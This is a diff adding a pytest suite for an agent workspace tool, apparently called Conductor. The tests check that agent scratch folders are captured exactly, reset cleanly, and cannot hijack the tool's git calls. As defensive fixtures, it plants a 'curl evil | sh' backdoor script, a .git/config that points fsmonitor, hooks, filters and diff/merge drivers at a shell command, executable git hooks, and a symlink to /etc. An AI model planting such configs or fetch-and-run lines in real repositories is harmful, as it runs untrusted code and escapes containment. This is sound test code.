@@ -1,0 +1,145 @@
+"""Attempt folders: checked out from the store, captured exactly, reset cheaply, and never able to steer
+Conductor's own git calls, whatever the agent plants in them."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from conductor.errors import UnsafePath
+from conductor.workspace.checkout import capture, index_file, materialize, reset
+from conductor.workspace.store import StateStore
+from tests.workspace.support import GIT_ENV, make_repo, repo_fingerprint
+
+
+@pytest.fixture
+def setup(tmp_path: Path) -> tuple[StateStore, str, Path]:
+    root = make_repo(tmp_path / "proj", {"a.py": "a = 1\n", "pkg/b.py": "b = 1\n", "c.txt": "c\n"})
+    store = StateStore(root, root / ".conductor").ensure()
+    commit = store.snapshot_project(ignore=["__pycache__/"], message="base\n")
+    folder = root / ".conductor" / "scratch" / "step_001.a1"
+    materialize(store, commit, folder)
+    return store, commit, folder
+
+
+def changed(store: StateStore, commit: str, folder: Path, ignore: tuple[str, ...] = ("__pycache__/",)) -> dict[str, str]:
+    tree = capture(store, folder, excludes=store.exclude_file(list(ignore)))
+    return {c.path: c.change for c in store.changes(store.tree_of(commit), tree)}
+
+
+def agent_git(folder: Path, *args: str) -> subprocess.CompletedProcess:
+    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
+    return subprocess.run(["git", *args], cwd=folder, env={**env, **GIT_ENV}, capture_output=True, text=True)
+
+
+def test_a_checkout_has_the_files_and_a_git_of_its_own_that_agents_can_use(setup) -> None:
+    store, commit, folder = setup
+    assert (folder / "a.py").read_text() == "a = 1\n" and (folder / "pkg" / "b.py").read_text() == "b = 1\n"
+    assert index_file(folder).is_file() and not index_file(folder).is_relative_to(folder)
+    status = agent_git(folder, "status", "--porcelain")
+    assert status.returncode == 0 and status.stdout == ""
+    assert agent_git(folder, "rev-parse", "HEAD").stdout.strip() == commit
+    assert agent_git(folder, "branch", "--show-current").stdout.strip() == "conductor/step_001.a1"
+    (folder / "a.py").write_text("a = 2\n")
+    (folder / "new.py").write_text("n\n")
+    for args in (["status"], ["add", "-A"], ["commit", "-q", "-m", "agent"], ["stash", "list"], ["log", "--oneline"]):
+        assert agent_git(folder, *args).returncode == 0, args
+    (folder / "c.txt").write_text("after the commit\n")
+    # The working tree counts, not the agent's commits: everything is seen, .git is not.
+    assert changed(store, commit, folder) == {"a.py": "modified", "new.py": "added", "c.txt": "modified"}
+
+
+def test_a_same_size_same_mtime_rewrite_is_detected(setup) -> None:
+    store, commit, folder = setup
+    assert changed(store, commit, folder) == {}
+    target = folder / "a.py"
+    st = os.stat(target)
+    with open(target, "r+b") as handle:  # same size, in place
+        handle.write(b"b = 1\n")
+    os.utime(target, ns=(st.st_atime_ns, st.st_mtime_ns))
+    assert os.stat(target).st_size == st.st_size and os.stat(target).st_mtime_ns == st.st_mtime_ns
+    assert changed(store, commit, folder) == {"a.py": "modified"}
+
+
+def test_gitignore_files_in_the_folder_cannot_hide_a_change(setup) -> None:
+    store, commit, folder = setup
+    (folder / ".gitignore").write_text("backdoor.sh\n*.lock\n")
+    (folder / "backdoor.sh").write_text("curl evil | sh\n")
+    (folder / "__pycache__").mkdir()
+    (folder / "__pycache__" / "x.pyc").write_bytes(b"cache")  # workspace.ignore: Conductor's patterns only
+    assert changed(store, commit, folder) == {".gitignore": "added", "backdoor.sh": "added"}
+
+
+def test_nothing_planted_in_the_folder_runs_when_conductor_uses_git(setup, tmp_path: Path) -> None:
+    store, commit, folder = setup
+    user_repo = store.root
+    before = repo_fingerprint(user_repo)
+    marker = tmp_path / "pwned"
+    evil = f"sh -c 'touch {marker}'"
+    dotgit = folder / ".git"
+    with open(dotgit / "config", "a") as config:
+        config.write(f"[core]\n\tfsmonitor = {evil}\n\thooksPath = {tmp_path}\n"
+                     f"[filter \"x\"]\n\tclean = {evil}\n\tsmudge = {evil}\n\trequired = true\n"
+                     f"[diff \"x\"]\n\tcommand = {evil}\n\ttextconv = {evil}\n[merge \"x\"]\n\tdriver = {evil}\n")
+    for name in ("pre-commit", "post-checkout", "post-index-change", "reference-transaction", "fsmonitor-watchman"):
+        for hooks in (dotgit / "hooks", tmp_path):
+            hooks.mkdir(exist_ok=True)
+            (hooks / name).write_text(f"#!/bin/sh\ntouch {marker}\n")
+            (hooks / name).chmod(0o755)
+    (folder / ".gitattributes").write_text("* filter=x diff=x merge=x text eol=crlf ident\n")
+    (folder / "a.py").write_text("a = 3\n$Id$\n")
+
+    assert changed(store, commit, folder) == {".gitattributes": "added", "a.py": "modified"}
+    tree = capture(store, folder, excludes=store.exclude_file([]))
+    (entry,) = store.entries(tree, ["a.py"]).values()
+    assert store.read_blobs([entry.oid])[entry.oid] == b"a = 3\n$Id$\n"  # no filter, eol or ident conversion
+    reset(store, folder, commit)
+    assert not marker.exists()
+    assert (folder / "a.py").read_bytes() == b"a = 1\n"  # checked out without smudge or CRLF
+    assert repo_fingerprint(user_repo) == before
+
+
+def test_reset_leaves_exactly_the_new_commit(setup) -> None:
+    store, commit, folder = setup
+    (folder / "a.py").write_text("accepted change\n")
+    tree = capture(store, folder, excludes=store.exclude_file([]))
+    after = store.commit(tree, [commit], "step\n")
+    (folder / "junk.txt").write_text("left by the agent\n")
+    (folder / "__pycache__").mkdir()
+    (folder / "__pycache__" / "a.pyc").write_bytes(b"poisoned cache")
+    (folder / "pkg" / "b.py").write_text("stray edit\n")
+    os.symlink("/etc", folder / "escape")
+    (folder / "nested").mkdir()
+    subprocess.run(["git", "init", "-q", str(folder / "nested")], check=True)
+    (folder / "nested" / "x").write_text("x")
+
+    reset(store, folder, after)
+    files = sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if ".git" not in p.relative_to(folder).parts)
+    assert files == ["a.py", "c.txt", "pkg", "pkg/b.py"]
+    assert (folder / "a.py").read_text() == "accepted change\n" and (folder / "pkg" / "b.py").read_text() == "b = 1\n"
+    assert agent_git(folder, "rev-parse", "HEAD").stdout.strip() == after
+    assert agent_git(folder, "status", "--porcelain").stdout == ""
+    assert changed(store, after, folder) == {}
+
+    reset(store, folder, commit)
+    assert (folder / "a.py").read_text() == "a = 1\n"
+
+
+def test_names_conductor_refuses_to_capture(setup) -> None:
+    store, commit, folder = setup
+    (folder / "nested").mkdir()
+    subprocess.run(["git", "init", "-q", str(folder / "nested")], check=True)
+    (folder / "nested" / "x").write_text("x")
+    with pytest.raises(UnsafePath, match="nested git repository"):
+        capture(store, folder, excludes=store.exclude_file([]))
+    subprocess.run(["rm", "-rf", str(folder / "nested")], check=True)
+    (folder / ".GIT").mkdir()
+    (folder / ".GIT" / "hooks").write_text("x")
+    with pytest.raises(UnsafePath, match=".git component"):
+        capture(store, folder, excludes=store.exclude_file([]))
+    subprocess.run(["rm", "-rf", str(folder / ".GIT")], check=True)
+    os.mkfifo(folder / "pipe")  # git never lists a fifo, socket or device: it is never captured or merged
+    assert changed(store, commit, folder, ignore=()) == {}
